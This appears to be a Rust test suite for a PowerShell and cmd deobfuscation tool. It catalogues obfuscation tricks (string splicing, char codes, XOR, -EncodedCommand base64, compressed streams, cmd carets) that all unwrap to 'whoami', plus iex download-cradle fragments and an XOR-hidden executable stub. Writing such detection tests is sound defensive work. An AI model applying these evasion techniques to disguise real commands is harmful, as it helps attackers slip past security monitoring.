//! Tests of obfuscators' tricks, one by one. The expected results follow from PowerShell's
//! documentation.

use super::*;

/// Checks that each of the texts passes `whoami` to an interpreter.
fn all_run_whoami(texts: &[&str]) {
    for text in texts {
        let (layer, how, _) = only(text);
        assert_eq!((layer.as_str(), how), ("whoami", UnwrapMethod::Invoked), "{text}");
    }
}

#[test]
fn texts_are_put_together() {
    all_run_whoami(&[
        "iex ('who'+'ami')",
        "iex ('{1}{0}' -f 'ami','who')",
        "iex (\"{1}{0}\"-f'ami',(\"{0}{1}\" -f 'w','ho'))",
        "iex ('w','hoa','mi' -join '')",
        "iex (-join ('w','hoa','mi'))",
        "iex ([string]::Join('', ('w','hoa','mi')))",
        "iex ([string]::Concat('who','ami'))",
        "iex ([string]::Format('{0}{1}','who','ami'))",
        "$a = 'who'; $b = 'ami'; iex ($a+$b)",
        "$a = 'who'; $a += 'ami'; iex $a",
        "$a = 'ami'; iex \"who$a\"",
        "iex \"who$('a'+'mi')\"",
    ]);
    for text in [
        "Set-Variable x ('who'+'ami'); (Get-Variable x -ValueOnly) | iex",
        "sv x ('who'+'ami'); iex (gci variable:x).Value",
        "Set-Item variable:x ('who'+'ami'); iex (Get-Content variable:x)",
    ] {
        assert_eq!(texts(text)[0], "whoami", "{text}");
    }
}

#[test]
fn texts_are_changed() {
    all_run_whoami(&[
        "iex ('imaohw'[-1..-6] -join '')",
        "$x='imaohw'; iex ($x[-1 .. -($x.Length)] -join '')",
        "$x=[char[]]'imaohw'; [array]::Reverse($x); iex (-join $x)",
        "iex ([regex]::Matches('imaohw','.','RightToLeft') -join '')",
        "iex ('wXoami' -replace 'X','h')",
        "iex ('wxoami' -replace 'X','h')",
        "iex ('wxoami' -creplace 'x','h')",
        "iex ('wXoami'.Replace('X','h'))",
        "iex ('wXoami'.('Rep'+'lace').Invoke('X','h'))",
        "iex ('w-h-o-a-m-i'.Split('-') -join '')",
        "iex (-join ('w-h}o-a}m-i' -split '-' -split '}'))",
        "iex ('.who.'.Trim('.')+'ami')",
        "iex ('x who'.Substring(2)+'ami')",
        "iex ('whooo'.Remove(3)+'ami')",
        "iex 'whoa'.Insert(4, 'mi')",
        "iex ('WHOAMI'.ToLower() -replace 'x')",
    ]);
}

#[test]
fn characters_are_numbers() {
    all_run_whoami(&[
        "iex ([char]119+[char]104+[char]111+[char]97+[char]109+[char]105)",
        "iex ([char]0x77+[char]0x68+'oami')",
        "iex ([char[]](119,104,111,97,109,105) -join '')",
        "iex (-join ((119,104,111,97,109,105) | % { [char]$_ }))",
        "iex (-join ('167,150,157,141,155,151'.Split(',') | % { [char]([Convert]::ToInt16($_,8)) }))",
        "iex (-join ('77 68 6f 61 6d 69' -split ' ' | ForEach-Object { [char][convert]::ToInt32($_,16) }))",
        "'1110111,1101000,1101111,1100001,1101101,1101001'.Split(',')|%{([char]([convert]::toint16(([string]$_),2)))}|&{-join $input}; iex ('who'+'ami')",
        "$ofs=''; iex ([string](119,104,111,97,109,105|%{[char]$_}))",
        "iex (\"$(Set-Item variable:ofs '')\"+[string]([char[]](119,104,111,97,109,105)))",
        // b ^ 0x35 for each byte of whoami.
        "iex (-join ([char[]](66,93,90,84,88,92) | % { [char]($_ -bxor 0x35) }))",
        "iex (-join (66,93,90,84,88,92 | % { [char]($_ -bxor '0x35') }))",
        "$s=''; foreach ($c in 66,93,90,84,88,92) { $s += [char]($c -bxor 0x35) }; iex $s",
        "$b=@(66,93,90,84,88,92); $s=''; for ($i=0; $i -lt $b.Length; $i++) { $s += [char]($b[$i] -bxor 53) }; iex $s",
        "$i=0; $s=''; while ($i -lt 12) { $s += 'w-h-o-a-m-i-'[$i]; $i += 2 }; iex $s",
    ]);
}

#[test]
fn interpreters_hide_their_names() {
    all_run_whoami(&[
        "& ('i'+'ex') ('who'+'ami')",
        ".('{1}{0}'-f'ex','i') ('who'+'ami')",
        "i`e`x ('who'+'ami')",
        "&(\"i`e`x\") ('who'+'ami')",
        "('who'+'ami') | Invoke-Expression",
        "('who'+'ami')|&($env:ComSpec[4,15,25]-join'')",
        "&($PSHome[21]+$PSHome[30]+'x') ('who'+'ami')",
        "&($ShellId[1]+$ShellId[13]+'x') ('who'+'ami')",
        "&($env:Public[13]+$env:Public[5]+'x') ('who'+'ami')",
        ".($VerbosePreference.ToString()[1,3]+'x'-join'') ('who'+'ami')",
        "&(([string]$VerbosePreference)[1,3]+'X'-join'') ('who'+'ami')",
        "&((gv '*mdr*').Name[3,11,2]-join'') ('who'+'ami')",
        "$x = 'iex'; & $x ('who'+'ami')",
        "&(${unknown}[1]) ('who'+'ami')",
        "$ExecutionContext.InvokeCommand.InvokeScript('who'+'ami')",
        "& ([scriptblock]::Create('who'+'ami'))",
        "Invoke-Command -ScriptBlock ([ScriptBlock]::Create(('who'+'ami')))",
        "[powershell]::Create().AddScript('who'+'ami').Invoke()",
    ]);
}

#[test]
fn a_member_that_is_hidden_is_shown() {
    let text =
        "${ExecutionContext}.\"Inv`okeCommand\".(\"{1}{0}\"-f'ript','InvokeSc')('who'+'ami')";
    assert_eq!(texts(text), ["whoami", "${ExecutionContext}.InvokeCommand.InvokeScript('whoami')"]);
}

#[test]
fn letters_of_method_overloads_are_read() {
    // Invoke-Obfuscation takes `iex` from these places (Out-EncodedAsciiCommand.ps1).
    for letters in [
        "''.Chars.ToString()[11,18,19]",
        "''.IndexOf.ToString()[106,482,184]",
        "''.IndexOfAny.ToString()[0,7,8]",
        "([String]''.Insert)[3,10,27]",
        "([String]''.IsNormalized)[13,15,48]",
        "''.LastIndexOfAny.ToString()[0,11,12]",
        "''.Normalize.ToString()[3,15,46]",
        "''.Remove.ToString()[3,8,27]",
        "''.SubString.ToString()[3,29,30]",
    ] {
        let text = format!("&({letters}-join'') ('whoa'+'mi')");
        assert_eq!(only(&text).0, "whoami", "{letters}");
        let shown = format!("& ({letters}-join'') $x");
        assert_eq!(only(&shown).0.to_lowercase(), "iex $x", "{letters}");
    }
}

#[test]
fn a_text_is_shown_with_what_was_worked_out() {
    let shown = |text: &str| {
        let (layer, how, _) = only(text);
        assert_eq!(how, UnwrapMethod::Evaluated);
        layer
    };
    assert_eq!(shown("Ne`w-Obj`ect Net.We`bClient"), "New-Object Net.WebClient");
    assert_eq!(shown("&('New-'+'Object') ('Net.Web'+'Client')"), "New-Object Net.WebClient");
    assert_eq!(shown("$w.\"Down`loadString\"('ht'+'tp://h')"), "$w.DownloadString('http://h')");
    assert_eq!(shown("$w.('Down'+'loadFile')($u)"), "$w.DownloadFile($u)");
    assert_eq!(shown("Get-Item ($x + 'Pro'+'gram' + $y)"), "Get-Item ($x + 'Program' + $y)");
    assert_eq!(shown("\"$x is $('i'+'t') $y\""), "\"$x is it $y\"");
    assert_eq!(shown("[Type]('{1}{0}'-f'sole','Con')"), "[Type]'Console'");
    assert_eq!(shown("f (([char]39)+'a'+'b')"), "f '''ab'");
    assert_eq!(shown("if ($x) { ('wh'+'o') | g }"), "if ($x) { 'who' | g }");
    assert_eq!(shown("function f { ('wh'+'o') }"), "function f { 'who' }");
}

#[test]
fn unknown_values_are_not_replaced() {
    // Values that a branch, a loop or a block may have changed are unknown after it.
    for text in [
        "$a = 'who'; if ($x) { $a = 'net' }; iex ($a + $b)",
        "$a = 'who'; while (f) { $a = g }; iex \"$a user\"",
        "$a = 'who'; $x | % { $a += $_ }; iex ($a + 'x')",
        "iex ($env:windir + '\\x.ps1')",
        "iex (Get-Content ('a' + '-b'))",
        "iex ((New-Object Net.WebClient).DownloadString('http://h/' + $p))",
        "& $f ('a' -f (Get-Random))",
        "& $tool ('--na'+'me')",
    ] {
        let found = unwrap(text);
        assert!(
            found.layers.iter().all(|layer| layer.how != UnwrapMethod::Invoked),
            "{text}: {found:?}"
        );
    }
    // A condition that is known is followed.
    assert_eq!(
        only("$a='no'; if (1 -eq 1) { $a='who' } else { $a='x' }; iex ($a+'ami')").0,
        "whoami"
    );
}

#[test]
fn encoded_commands_by_every_name() {
    // Python: base64.b64encode("whoami /all".encode('utf-16le')); the last without its padding.
    for base64 in ["dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==", "dwBoAG8AYQBtAGkAIAAvAGEAbABsAA"] {
        let full = "EncodedCommand";
        let prefixes = (1..=full.len()).map(|length| format!("-{}", &full[..length]));
        let others =
            ["-ec", "-eNC", "/enc", "--enc", "\u{2013}EnCod", "\u{2014}e", "\u{2015}e", "-\"enc\""];
        for flag in prefixes.chain(others.map(str::to_owned)) {
            for quote in ["", "\"", "'"] {
                let text = format!("powershell.exe -NoP {flag} {quote}{base64}{quote}");
                let (layer, how, _) = only(&text);
                assert_eq!(
                    (layer.as_str(), how),
                    ("whoami /all", UnwrapMethod::EncodedCommand),
                    "{text}"
                );
            }
        }
        for other in ["-ep", "-f", "-EncodedArguments", "-ex", "-encoding"] {
            let text = format!("powershell {other} {base64}");
            assert!(!texts(&text).contains(&"whoami /all".to_owned()), "{text}");
        }
    }
    // The bytes 01 00 02 00 03 00: control characters, not text.
    assert_eq!(texts("powershell -e AQACAAMA"), Vec::<String>::new());
    assert_eq!(texts("deploy.exe -e production"), Vec::<String>::new());
    assert_eq!(only("findstr -e password & powershell -enc dwBoAG8AYQBtAGkA").0, "whoami");
}

// Python: gzip.compress, zlib.compressobj(9, DEFLATED, -15) and zlib.compress of
// b"Write-Output 'inside a stream'", in Base64.
const GZIP: &str = "H4sIAAAAAAACAwsvyixJ1fUvLSkoLVFQz8wrzkxJVUhUKC4pSk3MVQcAJ7ersx4AAAA=";
const DEFLATE: &str = "Cy/KLEnV9S8tKSgtUVDPzCvOTElVSFQoLilKTcxVBwA=";
const ZLIB: &str = "eJwLL8osSdX1Ly0pKC1RUM/MK85MSVVIVCguKUpNzFUHAKxjCuE=";

#[test]
fn streams_are_inflated() {
    let inside = "Write-Output 'inside a stream'";
    for stream in [GZIP, DEFLATE, ZLIB] {
        assert_eq!(only(&format!("$s='{stream}'")), (inside.into(), UnwrapMethod::Inflated, 4));
    }
    // The same, in pieces that only evaluation joins.
    let (first, second) = DEFLATE.split_at(11);
    let texts = texts(&format!(
        "iex (New-Object IO.StreamReader((New-Object System.IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{first}'+'{second}'), [IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII)).ReadToEnd()"
    ));
    assert_eq!(texts.first().map(String::as_str), Some(inside));
    let (first, second) = GZIP.split_at(9);
    let texts = super::texts(&format!(
        "$d=[Convert]::FromBase64String('{first}'+'{second}'); $m=New-Object IO.MemoryStream(,$d); $g=New-Object IO.Compression.GzipStream $m,([IO.Compression.CompressionMode]::Decompress); $o=New-Object IO.MemoryStream; $g.CopyTo($o); [Text.Encoding]::UTF8.GetString($o.ToArray()) | iex"
    ));
    assert_eq!(texts.first().map(String::as_str), Some(inside));
}

#[test]
fn base64_is_decoded_where_it_is_named() {
    for call in [
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1pIC9hbGw=')))",
        "iex ([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('d2hv'+'YW1pIC9hbGw=')))",
        "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==')) | iex",
        "$e=New-Object Text.UTF8Encoding; iex $e.GetString([convert]::FromBase64String('d2hvYW1pIC9hbGw='))",
        "iex ([Text.Encoding]::GetEncoding('utf-8').GetString([convert]::FromBase64String('d2hvYW1pIC9hbGw=')))",
    ] {
        assert_eq!(only(call).0, "whoami /all", "{call}");
    }
}

const HIDDEN: &str = "bnkjIiEgJyYlJCsqKSgvLi0sMzIxMDc2NTQ7Ojk4Pz49PAMCAQAHBgUECwoJCA8ODQwTEhEQFxYVFBsaGRgfHh0cY2JhYGdmZWRramlob25tbHNycXB3dnV0e3p5eH9+fXxDQkFAR0ZFREtKSUhPTk1MU1JRUFdWVVRbWllYX14=";

#[test]
fn programs_are_noted_not_shown() {
    // Python: base64.b64encode(bytes(b ^ 35 for b in b'MZ' + bytes(range(126)))): how Cobalt Strike
    // hides one.
    let hidden = HIDDEN;
    let found = unwrap(&format!(
        "[Byte[]]$c = [Convert]::FromBase64String('{hidden}'); for ($x = 0; $x -lt $c.Count; $x++) {{ $c[$x] = $c[$x] -bxor 35 }}"
    ));
    assert_eq!(found.layers, []);
    assert_eq!(found.binaries.len(), 1, "{found:?}");
    assert_eq!((found.binaries[0].kind, found.binaries[0].size), ("MZ executable", 128));
}

#[test]
fn command_lines_are_read_as_windows_does() {
    // cmd's carets, and the variables it sets.
    let text = "cmd.exe /c p^ow^er^shell -c i^ex ('who'+'ami')";
    assert_eq!(texts(text), ["powershell -c iex ('who'+'ami')", "whoami"]);
    let text = "cmd /c \"set x=who&& set y=ami&& call powershell iex %x%%y%\"";
    assert_eq!(
        texts(text).first().map(String::as_str),
        Some("set x=who&& set y=ami&& call powershell iex whoami")
    );
    let text = "cmd /c \"set p=iex ('who'+'ami')&& powershell iex $env:p\"";
    assert!(texts(text).contains(&"whoami".to_owned()), "{:?}", texts(text));
    let text = "%COMSPEC% /b /c echo %COMSPEC:~-7,3%^&calc";
    assert_eq!(texts(text), ["echo cmd&calc"]);
    let text = "cmd /c echo iex ('who'+'ami') | powershell -nop -";
    assert!(texts(text).contains(&"whoami".to_owned()), "{:?}", texts(text));
    // Quotes inside quotes of an argument.
    let text = r#"powershell -nop -c "iex (\"{1}{0}\" -f 'ami','who')""#;
    assert!(texts(text).contains(&"whoami".to_owned()), "{:?}", texts(text));
}
